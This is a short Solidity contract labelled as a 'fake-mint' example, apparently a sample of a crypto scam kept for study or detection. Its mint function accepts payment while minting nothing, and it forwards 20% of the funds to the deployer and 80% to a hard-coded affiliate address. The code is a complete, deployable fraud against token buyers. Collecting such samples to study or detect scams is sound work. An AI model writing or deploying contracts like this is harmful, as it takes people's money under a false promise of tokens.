// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

/// @custom:example fake-mint
/// @notice Promises a mint for a payment, and shares the payment between two accounts.
contract FakeMint {
    address payable internal immutable _operator;
    address payable internal constant AFFILIATE = payable(0x1111111111222222222233333333334444444444);

    constructor() {
        _operator = payable(msg.sender);
    }

    function mint(uint256 amount) external payable {
        require(amount > 0, "Nothing");
        _operator.transfer((msg.value * 20) / 100);
        AFFILIATE.transfer((msg.value * 80) / 100);
    }
}
